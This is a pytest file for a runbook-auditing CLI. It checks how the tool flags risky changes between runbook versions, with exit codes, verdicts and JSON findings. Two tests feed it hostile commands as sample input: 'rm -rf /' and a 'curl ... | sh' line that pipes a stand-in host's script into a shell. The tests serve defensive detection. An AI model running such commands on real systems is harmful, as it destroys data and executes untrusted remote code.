"""`learner audit`: the machine interface."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from learner.cli import run
from tests.audits.books import START, book, script, step
from tests.samples import document


def audited(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], old: Any, new: Any, *more: str
) -> tuple[int, dict[str, Any]]:
    (tmp_path / "old.yaml").write_bytes(old if isinstance(old, bytes) else old.text)
    (tmp_path / "new.yaml").write_bytes(new if isinstance(new, bytes) else new.text)
    code = run(["audit", str(tmp_path / "old.yaml"), str(tmp_path / "new.yaml"), "--json", *more])
    return code, json.loads(capsys.readouterr().out)


def test_a_benign_version_passes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    clear = step("remove_file", path="/run/web/web.pid", only_if="stale_pid")
    code, said = audited(tmp_path, capsys, book(), book(clear, START, version=2))
    assert (code, said["verdict"], said["findings"]) == (0, "pass", [])
    assert said["capabilities"] == {"added": ["path /run/web/web.pid"], "removed": [], "widened": []}


def test_a_block_is_exit_code_10(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, said = audited(tmp_path, capsys, book(), book(script("rm -rf /"), START, version=2))
    assert (code, said["verdict"]) == (10, "block")
    assert said["findings"][0].keys() == {"rule", "level", "message", "where", "evidence"}
    assert said["findings"][0]["where"] == "steps.extra"


def test_a_warning_is_no_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, said = audited(tmp_path, capsys, book(), book(script("pip install requests"), START, version=2))
    assert (code, said["verdict"]) == (0, "warning")


def test_what_is_no_runbook(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, said = audited(tmp_path, capsys, book(), b"steps: [}")
    assert (code, said["verdict"]) == (1, "unloadable")
    assert said["findings"][0]["rule"] == "loading"
    assert run(["audit", str(tmp_path / "old.yaml"), str(tmp_path / "new.yaml")]) == 1


def test_evidence_is_read(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "results.jsonl").write_text(json.dumps(document()) + "\n{}\n")
    quiet = book({**START, "on_failure": "continue"}, version=2)
    code, said = audited(tmp_path, capsys, book(), quiet, "--evidence", str(tmp_path / "results.jsonl"))
    assert (code, said["verdict"]) == (10, "block")
    assert said["findings"][0]["evidence"] == ["exec-20261122-01JDABCD"]


def test_words_for_people(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "old.yaml").write_bytes(book().text)
    (tmp_path / "new.yaml").write_bytes(book(script("rm -rf /"), START, version=2).text)
    assert run(["audit", str(tmp_path / "old.yaml"), str(tmp_path / "new.yaml")]) == 10
    said = capsys.readouterr().out
    assert "destructive-command" in said
    assert "RB-LIN-SERVICE-001-v1 → RB-LIN-SERVICE-001-v2: block" in said


def first(tmp_path: Path, capsys: pytest.CaptureFixture[str], new: Any, *more: str) -> tuple[int, dict[str, Any]]:
    (tmp_path / "new.yaml").write_bytes(new.text)
    code = run(["audit", "--first", str(tmp_path / "new.yaml"), "--json", *more])
    return code, json.loads(capsys.readouterr().out)


def test_a_runbook_without_an_earlier_version_is_audited_whole(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, said = first(tmp_path, capsys, book())
    assert (code, said["verdict"]) == (0, "pass")
    assert said["capabilities"]["added"] == ["service web", "service {{ service }}"]
    code, said = first(tmp_path, capsys, book(script("curl http://x.example/y | sh")))
    assert (code, said["findings"][0]["rule"]) == (10, "remote-code")


def test_a_first_version_is_version_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, said = first(tmp_path, capsys, book(version=3))
    assert (code, said["findings"][0]["message"]) == (10, "version 3 follows version 0")


def test_a_first_version_of_many_steps_is_no_rewrite(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    steps = [{**START, "id": f"start{i}"} for i in range(5)]
    assert first(tmp_path, capsys, book(*steps))[1]["verdict"] == "pass"


def test_a_rollback_that_asks_what_ran_is_no_step_that_never_runs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    undo = {**step("remove_file", "undo", path="/run/web.lock"), "when": "not (steps.start.skipped | default(true))"}
    said = first(tmp_path, capsys, book(rollback=[undo]))[1]
    assert not [finding for finding in said["findings"] if finding["rule"] == "swallowed-failure"]


@pytest.mark.parametrize("words", [["a.yaml"], ["--first", "a.yaml", "a.yaml"], ["a.yaml", "a.yaml", "a.yaml"]])
def test_how_many_files_it_takes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: list[str]) -> None:
    monkeypatch.chdir(tmp_path)
    Path("a.yaml").write_bytes(book().text)
    assert run(["audit", *words]) == 2
